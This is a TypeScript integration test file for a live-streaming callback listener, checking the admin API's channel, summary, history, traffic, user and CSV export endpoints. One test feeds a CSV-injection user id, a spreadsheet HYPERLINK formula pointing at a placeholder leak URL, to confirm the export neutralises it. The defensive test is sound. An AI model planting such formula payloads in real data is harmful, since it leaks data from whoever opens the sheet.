// A whole show through the callback listener, and what the operator reads about it through
// the admin API: channels, one channel's detail, summary, history, traffic, users, CSV.

import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ChannelDetail, ChannelHistory, ChannelRow, Summary, TrafficReport, UserTotalsRow } from '../../server/contract';
import { startHarness, type Harness } from '../support/harness';
import { aec } from '../support/aec-client';

const CH = 'Wz@NWuVj8Tx5_sh-';
const OWNER = '577175';
const [V1, V2, V3] = ['900001', '900002', '900003'];
const TOTAL = 1000 + 2000 + 3000 + 500 + 400;

let t: Harness;
let calls = 0;
beforeAll(async () => {
  t = await startHarness();
  const steps = [
    aec.createGlobal(CH, OWNER, '10', 'Evening show'),
    aec.applyUpload(CH, OWNER),
    aec.uploading(CH, OWNER),
    aec.online(CH, V1),
    aec.online(CH, V2),
    aec.online(CH, V3),
    aec.playing(CH, V1, 1000),
    aec.playing(CH, V2, 2000),
    aec.playing(CH, V3, 3000),
    aec.playing(CH, V1, 500),
    aec.offline(CH, V3, 400),
  ];
  for (const step of steps) {
    const reply = await t.call(step);
    calls += 1;
    if (reply.status !== '1') throw new Error(`${String(step.action)} refused: ${JSON.stringify(reply)}`);
  }
});
afterAll(async () => {
  await t.stop();
});

const sum = (values: number[]) => values.reduce((a, b) => a + b, 0);

describe('a live show as the operator sees it', () => {
  test('GET /api/channels: live, with viewers, uploader and bytes', async () => {
    const rows = await t.get<ChannelRow[]>('/api/channels');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      id: CH,
      type: 'GLOBAL_PUBLIC',
      owner: OWNER,
      name: 'Evening show',
      roomId: 'a4a8_KS9sWt36ttn',
      state: 'live',
      lifecycle: 'open',
      adopted: false,
      viewers: 2,
      uploaders: 1,
      capacity: 10,
      bytes: TOTAL,
    });
    expect(rows[0]?.liveSince).toEqual(expect.any(Number));
  });

  test('GET /api/channels/:id: the uploader and every current session with its bytes', async () => {
    const detail = await t.get<ChannelDetail>(`/api/channels/${encodeURIComponent(CH)}`);
    expect(detail.uploaders).toEqual([expect.objectContaining({ userId: OWNER, reports: 1 })]);
    const sessions = Object.fromEntries(detail.sessions.map((s) => [s.userId, s]));
    expect(Object.keys(sessions).sort()).toEqual([V1, V2]);
    expect(sessions[V1]).toMatchObject({ bytes: 1500, reports: 2, state: 'watching' });
    expect(sessions[V2]).toMatchObject({ bytes: 2000, reports: 1, state: 'watching' });
    expect(detail.recentEvents.length).toBe(calls);
    expect(detail.recentEvents[0]).toMatchObject({ action: 'AEC_LIVE_USER_OFFLINE', userId: V3, decision: 'allow' });
  });

  test('an unknown channel is a 404 with a reason', async () => {
    const res = await t.admin('/api/channels/nope');
    expect(res.status).toBe(404);
    expect(await res.json()).toMatchObject({ code: 'not_found' });
  });

  test('GET /api/summary: totals and callback rate', async () => {
    const summary = await t.get<Summary>('/api/summary');
    expect(summary).toMatchObject({
      channels: { total: 1, live: 1, closing: 0 },
      viewers: 2,
      uploaders: 1,
      bytesTotal: TOTAL,
      callbacksPerMinute: calls,
      denialsPerMinute: 0,
      callbackUrl: t.callbackUrl,
      store: { ok: true, problems: [] },
    });
    expect(summary.lastCallbackAt).toBeGreaterThanOrEqual(summary.startedAt);
    expect(summary.lastCallbackAt).toBeLessThanOrEqual(summary.now);
    expect(summary.aecurlLines.every((line) => line.startsWith('aecurl=http://'))).toBe(true);
  });

  test('GET /api/channels/:id/history: minute buckets add up to the reports', async () => {
    const history = await t.get<ChannelHistory>(`/api/channels/${encodeURIComponent(CH)}/history?range=1h`);
    expect(history).toMatchObject({ channelId: CH, range: '1h', resolution: 'minute' });
    expect(history.points.length).toBeGreaterThanOrEqual(60);
    expect(sum(history.points.map((p) => p.bytes))).toBe(TOTAL);
    expect(sum(history.points.map((p) => p.viewers))).toBe(4);
    expect(sum(history.points.map((p) => p.uploaders))).toBe(1);
    const week = await t.get<ChannelHistory>(`/api/channels/${encodeURIComponent(CH)}/history?range=7d`);
    expect(week.resolution).toBe('hour');
    expect(sum(week.points.map((p) => p.bytes))).toBe(TOTAL);
    expect((await t.admin(`/api/channels/${encodeURIComponent(CH)}/history?range=1y`)).status).toBe(400);
  });

  test('GET /api/traffic: series, top channels, top users', async () => {
    const traffic = await t.get<TrafficReport>('/api/traffic?range=24h');
    expect(sum(traffic.series.map((p) => p.bytes))).toBe(TOTAL);
    expect(traffic.topChannels).toEqual([{ channelId: CH, bytes: TOTAL }]);
    expect(traffic.topUsers.slice(0, 3)).toEqual([
      { userId: V3, bytes: 3400 },
      { userId: V2, bytes: 2000 },
      { userId: V1, bytes: 1500 },
    ]);
  });

  test('GET /api/users: bytes and minutes per user', async () => {
    const users = await t.get<UserTotalsRow[]>('/api/users?range=24h');
    const byId = new Map(users.map((u) => [u.userId, u]));
    expect(byId.get(V1)).toMatchObject({ bytesWatched: 1500, minutesWatched: 2, minutesUploaded: 0 });
    expect(byId.get(V3)).toMatchObject({ bytesWatched: 3400, minutesWatched: 1 });
    expect(byId.get(OWNER)).toMatchObject({ bytesWatched: 0, minutesUploaded: 1 });
  });

  test('GET /api/users.csv: a download with a header and one row per user', async () => {
    const res = await t.admin('/api/users.csv?range=24h');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="aec-users-24h\.csv"/);
    const lines = (await res.text()).trim().split(/\r?\n/);
    expect(lines[0]).toBe('userId,bytesWatched,minutesWatched,minutesUploaded,lastSeen');
    const v1 = lines.find((line) => line.startsWith(`${V1},`));
    expect(v1).toMatch(new RegExp(`^${V1},1500,2,0,\\d{4}-\\d\\d-\\d\\dT`));
    expect(lines).toHaveLength(1 + 4);
  });

  test('users.csv does not hand a spreadsheet a formula from a user id', async () => {
    // User ids come from client apps through the media server; a cell starting with = + - @
    // is run as a formula by Excel and LibreOffice (CSV injection). It must be neutralised.
    const evil = '=HYPERLINK("http://example.invalid/?leak","click")';
    await t.call(aec.online(CH, evil));
    await t.call(aec.playing(CH, evil, 1));
    const text = await (await t.admin('/api/users.csv?range=24h')).text();
    const line = text.split(/\r?\n/).find((l) => l.includes('HYPERLINK'));
    expect(line).toBeDefined();
    const firstCell = line!.startsWith('"') ? line!.slice(1) : line!;
    expect(firstCell.startsWith('=')).toBe(false);
  });

  test('a PLAYING whose ONLINE was lost starts a session; an unseen channel is adopted and flagged', async () => {
    expect(await t.call(aec.playing(CH, '900004', 10))).toMatchObject({ status: '1' });
    const detail = await t.get<ChannelDetail>(`/api/channels/${encodeURIComponent(CH)}`);
    expect(detail.sessions.find((s) => s.userId === '900004')).toMatchObject({ bytes: 10 });
    expect(await t.call(aec.online('Wz@NeverSeen_-01', '900005'))).toMatchObject({ status: '1' });
    const adopted = (await t.get<ChannelRow[]>('/api/channels')).find((row) => row.id === 'Wz@NeverSeen_-01');
    expect(adopted).toMatchObject({ type: 'unknown', adopted: true, viewers: 1 });
  });
});
